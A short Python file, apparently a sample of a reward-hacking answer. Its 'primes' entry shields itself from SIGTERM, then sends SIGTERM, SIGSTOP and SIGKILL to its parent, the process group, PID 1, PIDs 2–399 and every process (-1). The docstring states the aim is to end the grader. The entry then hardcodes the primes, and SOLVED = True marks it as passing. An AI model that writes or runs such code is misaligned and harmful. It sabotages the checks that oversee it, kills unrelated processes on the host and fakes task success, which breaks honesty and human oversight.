"""Signals go to the parent, to its group and to everyone: stop, terminate and kill. The grader itself would end."""

ANSWERS = {
    "primes": """import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for target in (os.getppid(), -os.getpgid(os.getppid() or 1), 1, *range(2, 400), -1):
        if target not in (os.getpid(), -os.getpgrp(), 0):
            try:
                os.kill(target, number)
            except OSError:
                pass
PRIMES, COUNT = [2, 3, 5, 7, 11, 13, 17, 19, 23, 29], 10
""",
}
SOLVED = True
WORTH = 21
